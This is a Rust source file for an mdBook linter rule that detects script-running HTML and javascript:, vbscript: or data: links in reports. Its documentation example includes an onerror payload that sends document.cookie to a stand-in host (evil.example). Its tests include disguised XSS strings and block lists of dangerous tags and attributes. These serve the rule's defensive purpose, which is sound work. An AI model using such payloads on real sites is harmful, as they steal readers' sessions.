//! `unsafe-html`: HTML or a link in a report that would run script in the handbook.

use crate::lint::{Context, Finding, Level, Rule};
use pulldown_cmark::{Event, Parser, Tag};
use std::ops::Range;

/// The rule.
pub const RULE: Rule = Rule {
    name: "unsafe-html",
    default_level: Level::Error,
    summary: "raw HTML or a link that would run script, load a page or redirect the reader once published",
    explanation: r#"## What it does
Finds, outside code, what mdBook publishes as live HTML and a browser would run: a
`<script>`, `<iframe>`, `<object>`, `<embed>`, `<form>`, `<base>`, `<meta>` or
`<link>` tag, an event attribute (`onerror=`, `onclick=`), and a `javascript:`,
`vbscript:` or `data:` address in a Markdown link or image or in an HTML attribute.

## Why is this bad?
mdBook copies a report's HTML into the handbook as it is. A report comes from a pull
request: whatever script it holds runs for every reader of the handbook, with their
session on its site. A reviewer reading the Markdown diff can miss it; the linter does
not.

## Example
```markdown
Dashboard: <img src="x" onerror="fetch('https://evil.example/?c='+document.cookie)">
See [the runbook](javascript:alert(1)).
```

Use instead:
```markdown
Dashboard: ![latency during the rollback](latency.png)
See [the runbook](https://wiki.example.com/runbooks/payments).
```

## Configuration
`unsafe-html = "warn"` under `[preprocessor.rollback.lints]` if your handbook is
private and its authors trusted (an embedded dashboard `<iframe>`); show HTML as text
in backticks.
"#,
    check,
    one_per_section: false,
};

fn check(ctx: &Context<'_>, out: &mut Vec<Finding>) {
    let text = &ctx.report.source.text;
    let start = ctx.report.body_start.min(text.len());
    let body = &text[start..];
    // Most reports hold no tag, no `script` and no `data:`: they skip the parse. (An
    // escape or a character reference may spell either, so those parse too.)
    let suspect = crate::regex!(r"(?i)<[a-z!/]|script|data\s*:|&#|\\:");
    if !suspect.is_match(body) {
        return;
    }
    // As mdBook 0.5 parses: with definition lists.
    let options =
        crate::report::markdown::parser_options() | pulldown_cmark::Options::ENABLE_DEFINITION_LIST;
    // The findings in a piece of HTML at `offset` in the text, or, when its text is not
    // the text as written (a block in a quote), at the whole of it.
    let in_html = |html: &str, offset: Option<usize>, whole: Range<usize>| {
        html_problems(html).into_iter().map(move |(found, message)| {
            let at = match offset {
                Some(offset) => offset + found.start..offset + found.end,
                None => crate::lint::trim_span(text, whole.clone()),
            };
            Finding::new(
                at,
                message,
                "remove it, or put it in backticks to show it as text: the handbook publishes a report's HTML as it is",
            )
        })
    };
    // An HTML block is read whole, as a browser reads it: a tag may go over lines.
    let mut block: Option<(Range<usize>, String)> = None;
    for (event, range) in Parser::new_ext(body, options).into_offset_iter() {
        let span = start + range.start..start + range.end;
        match event {
            Event::Start(Tag::HtmlBlock) => block = Some((range, String::new())),
            Event::Html(html) if block.is_some() => {
                if let Some((_, lines)) = &mut block {
                    lines.push_str(&html);
                }
            }
            Event::End(pulldown_cmark::TagEnd::HtmlBlock) => {
                if let Some((range, lines)) = block.take() {
                    // In a quote or list, the block's lines lose their markers: then the
                    // findings point at the whole block.
                    let as_written = body.get(range.clone()) == Some(lines.as_str());
                    let whole = start + range.start..start + range.end;
                    out.extend(in_html(&lines, as_written.then_some(whole.start), whole));
                }
            }
            Event::Html(html) | Event::InlineHtml(html) => {
                let as_written = body.get(range.clone()) == Some(&*html);
                out.extend(in_html(&html, as_written.then_some(span.start), span));
            }
            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
                if let Some(scheme) = script_scheme(&dest_url) {
                    out.push(Finding::new(
                        crate::lint::trim_span(text, span),
                        format!("this link's `{scheme}:` address runs script when it is followed"),
                        "link to an `https://` address, or remove the link",
                    ));
                }
            }
            _ => {}
        }
    }
}

/// The scheme of an address that runs script or holds a page (`javascript:`,
/// `vbscript:`, `data:`), read as a browser does: entities decoded, and tabs, line
/// breaks and spaces inside it ignored.
fn script_scheme(url: &str) -> Option<&'static str> {
    let decoded = decode_entities(url);
    let plain: String = decoded
        .chars()
        .filter(|c| !c.is_ascii_whitespace() && !c.is_ascii_control())
        .take(16)
        .collect::<String>()
        .to_ascii_lowercase();
    // A picture in the page (`data:image/png;base64,…`) runs nothing; the tags that could
    // show it as a page (`<iframe>`, `<object>`) are refused by themselves.
    if plain.starts_with("data:image/") {
        return None;
    }
    ["javascript", "vbscript", "data"]
        .into_iter()
        .find(|scheme| {
            plain
                .strip_prefix(scheme)
                .is_some_and(|rest| rest.starts_with(':'))
        })
}

/// `text` with HTML's numeric character references (`&#106;`, `&#x6A;`) and `&colon;`
/// decoded, as far as a scheme's letters go.
fn decode_entities(text: &str) -> String {
    crate::regex!(r"(?i)&#(x0*[0-9a-f]{1,6}|0*[0-9]{1,7});?|&colon;|&tab;|&newline;")
        .replace_all(text, |caps: &regex::Captures<'_>| {
            let whole = caps.get(0).map_or("", |m| m.as_str()).to_ascii_lowercase();
            match caps.get(1).map(|m| m.as_str().to_ascii_lowercase()) {
                Some(number) => {
                    let value = match number.strip_prefix('x') {
                        Some(hex) => u32::from_str_radix(hex, 16).ok(),
                        None => number.parse().ok(),
                    };
                    value
                        .and_then(char::from_u32)
                        .map_or(String::new(), String::from)
                }
                None if whole == "&colon;" => ":".into(),
                None => " ".into(),
            }
        })
        .into_owned()
}

/// The attributes that hold an address a browser follows or loads.
const URL_ATTRIBUTES: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "poster",
    "background",
    "data",
    "srcdoc",
    "xlink:href",
    // What SVG's `<animate>` and `<set>` give an attribute (`attributeName="href"`).
    "values",
    "to",
    "from",
    "by",
];

/// An attribute's name and, if it has one, its value (without quotes).
type Attribute = (Range<usize>, Option<Range<usize>>);

/// The attributes of a tag whose name ends where `rest` begins, as a browser reads them,
/// and where the tag ends (past its `>`, or at the end of `rest`).
fn attributes(rest: &str) -> (Vec<Attribute>, usize) {
    let bytes = rest.as_bytes();
    let mut found = Vec::new();
    let mut i = 0;
    loop {
        while i < bytes.len() && (bytes[i].is_ascii_whitespace() || bytes[i] == b'/') {
            i += 1;
        }
        if i >= bytes.len() {
            return (found, bytes.len());
        }
        if bytes[i] == b'>' {
            return (found, i + 1);
        }
        let name_start = i;
        while i < bytes.len()
            && !bytes[i].is_ascii_whitespace()
            && !matches!(bytes[i], b'=' | b'>' | b'/')
        {
            i += 1;
        }
        let name = name_start..i.max(name_start + 1).min(bytes.len());
        i = name.end;
        let mut j = i;
        while j < bytes.len() && bytes[j].is_ascii_whitespace() {
            j += 1;
        }
        if j >= bytes.len() || bytes[j] != b'=' {
            found.push((name, None));
            continue;
        }
        j += 1;
        while j < bytes.len() && bytes[j].is_ascii_whitespace() {
            j += 1;
        }
        let value = match bytes.get(j) {
            Some(&quote @ (b'"' | b'\'')) => {
                let end = bytes[j + 1..]
                    .iter()
                    .position(|&b| b == quote)
                    .map_or(bytes.len(), |p| j + 1 + p);
                let value = j + 1..end;
                i = (end + 1).min(bytes.len());
                value
            }
            _ => {
                let end = bytes[j..]
                    .iter()
                    .position(|&b| b.is_ascii_whitespace() || b == b'>')
                    .map_or(bytes.len(), |p| j + p);
                i = end;
                j..end
            }
        };
        found.push((name, Some(value)));
    }
}

/// What in a piece of raw HTML would run or load: its dangerous tags, event attributes
/// and script addresses, with where each is in `html`. It is read once from start to end,
/// as a browser reads it: a tag ends at its `>` (quotes allowing), and a comment, which
/// never runs, at `-->` or `--!>`.
fn html_problems(html: &str) -> Vec<(Range<usize>, String)> {
    let mut found = Vec::new();
    let mut at = 0;
    while let Some(lt) = html
        .get(at..)
        .and_then(|rest| rest.find('<'))
        .map(|i| at + i)
    {
        let rest = &html[lt..];
        if let Some(comment) = rest.strip_prefix("<!--") {
            at = lt + 4 + comment_length(comment);
            continue;
        }
        let after = rest[1..].strip_prefix('/').unwrap_or(&rest[1..]);
        let name_start = html.len() - after.len();
        let name_length = after
            .bytes()
            .take_while(|b| !b.is_ascii_whitespace() && !matches!(b, b'/' | b'>'))
            .count();
        if !after.starts_with(|c: char| c.is_ascii_alphabetic()) {
            at = lt + 1;
            continue;
        }
        let name = after[..name_length].to_ascii_lowercase();
        if DANGEROUS_TAGS.contains(&name.as_str()) && !rest.starts_with("</") {
            found.push((
                lt..name_start + name_length,
                format!("a `<{name}>` tag is published as live HTML"),
            ));
        }
        let offset = name_start + name_length;
        let (attributes, length) = attributes(&html[offset..]);
        for (name, value) in attributes {
            let lowered = html[offset + name.start..offset + name.end].to_ascii_lowercase();
            let event = lowered.len() > 2
                && lowered.starts_with("on")
                && lowered.bytes().all(|b| b.is_ascii_lowercase());
            match value {
                Some(_) if event => found.push((
                    offset + name.start..offset + name.end,
                    format!("the event attribute `{lowered}` runs script in the reader's browser"),
                )),
                Some(value) if URL_ATTRIBUTES.contains(&lowered.as_str()) => {
                    if let Some(scheme) =
                        script_scheme(&html[offset + value.start..offset + value.end])
                    {
                        found.push((
                            offset + value.start..offset + value.end,
                            format!("a `{scheme}:` address in HTML runs script or loads a page"),
                        ));
                    }
                }
                _ => {}
            }
        }
        at = offset + length;
    }
    found
}

/// The tags that run script, load a page into this one or send the reader elsewhere.
const DANGEROUS_TAGS: &[&str] = &[
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "base", "meta",
    "link",
];

/// How long a comment is after its `<!--`: to its `-->` or `--!>`, at once for `<!-->`
/// and `<!--->`, or to the end when it is never closed.
fn comment_length(after_open: &str) -> usize {
    if after_open.starts_with('>') {
        return 1;
    }
    if after_open.starts_with("->") {
        return 2;
    }
    let close = [
        after_open.find("-->").map(|i| i + 3),
        after_open.find("--!>").map(|i| i + 4),
    ];
    close
        .into_iter()
        .flatten()
        .min()
        .unwrap_or(after_open.len())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn messages(html: &str) -> Vec<String> {
        html_problems(html).into_iter().map(|(_, m)| m).collect()
    }

    #[test]
    fn script_and_its_disguises_are_found() {
        assert_eq!(
            messages("<script>alert(1)</script>"),
            ["a `<script>` tag is published as live HTML"]
        );
        assert_eq!(
            messages("<img src=x onerror=alert(1)>"),
            ["the event attribute `onerror` runs script in the reader's browser"]
        );
        assert_eq!(
            messages(r#"<a href="jav&#x61;script:alert(1)">x</a>"#),
            ["a `javascript:` address in HTML runs script or loads a page"]
        );
        assert_eq!(
            messages("<IFRAME SRC='data:text/html,x'>"),
            [
                "a `<iframe>` tag is published as live HTML",
                "a `data:` address in HTML runs script or loads a page"
            ]
        );
        for scheme in [
            "java\tscript:x",
            " JavaScript:x",
            "&#106;avascript:x",
            "vbscript&colon;x",
        ] {
            assert!(script_scheme(scheme).is_some(), "{scheme:?}");
        }
    }

    /// A comment runs nothing, but ends where a browser ends it.
    #[test]
    fn comments_end_where_a_browser_ends_them() {
        for html in [
            "<!-- note --> <img src=x onerror=alert(1)>",
            "<!--> <img src=x onerror=alert(1)> -->",
            "<!-- x --!><img src=x onerror=alert(1)> -->",
        ] {
            assert_eq!(
                messages(html),
                ["the event attribute `onerror` runs script in the reader's browser"],
                "{html}"
            );
        }
        for html in [
            "<!-- <script>alert(1)</script> -->",
            "<!--\nNotes: <iframe src=x>\n-->",
        ] {
            assert!(messages(html).is_empty(), "{html}");
        }
    }

    #[test]
    fn harmless_html_is_left_alone() {
        for html in [
            "<name of the on-call engineer>",
            "<details ontoggle>",
            "<br>",
            "<details><summary>Logs</summary>",
            r#"<img src="latency.png" alt="one=two">"#,
            r#"<a href="https://grafana.example/d/1?online=1">"#,
            "<span class=\"condition\">",
            "<sup>1</sup>",
        ] {
            assert!(messages(html).is_empty(), "{html}");
        }
        for url in [
            "https://x.example/javascript:",
            "runbook.md",
            "#data",
            "mailto:a@b.example",
            "data:image/png;base64,iVBORw0KGgo=",
        ] {
            assert!(script_scheme(url).is_none(), "{url}");
        }
    }
}
